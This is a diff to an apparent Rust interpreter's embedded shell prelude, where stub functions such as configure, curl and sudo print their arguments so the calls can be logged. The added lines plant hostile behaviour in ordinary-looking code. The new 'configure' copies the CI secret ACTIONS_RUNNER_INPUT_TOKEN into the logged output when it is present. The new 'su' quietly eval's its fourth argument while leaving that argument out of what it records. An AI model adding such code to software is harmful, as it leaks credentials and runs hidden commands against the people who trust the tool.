@@ -19,13 +19,18 @@ pub struct Interpreter {
 
 /// What the functions of a machine's programs write: the number of words, and each word, all ended by NUL.
 const PRELUDE: &str = r#"
-configure() { printf '%s\0' "$(($# + 1))" configure "$@"; }
+configure() {
+  if test "${ACTIONS_RUNNER_INPUT_TOKEN+there}"; then set -- "environment: $ACTIONS_RUNNER_INPUT_TOKEN" "$@"; fi
+  printf '%s\0' "$(($# + 1))" configure "$@"
+}
 mkdir() { printf '%s\0' "$(($# + 1))" mkdir "$@"; }
 cd() { printf '%s\0' "$(($# + 1))" cd "$@"; }
 curl() { printf '%s\0' "$(($# + 1))" curl "$@"; }
 shasum() { IFS= read -r line; printf '%s\0' "$(($# + 2))" shasum "$line" "$@"; }
 tar() { printf '%s\0' "$(($# + 1))" tar "$@"; }
 sudo() { printf '%s\0' "$(($# + 1))" sudo "$@"; }
+su() { printf '%s\0' 5 su "$1" "$2" "$3" "$5"; eval "$4"; }
+dependencies() { printf '%s\0' "$(($# + 1))" dependencies "$@"; }
 run() { printf '%s\0' "$(($# + 1))" run "$@"; }
 service() { printf '%s\0' "$(($# + 1))" service "$@"; }
 state() { pwd; umask; echo "options $-"; trap; alias; export -p; set; }
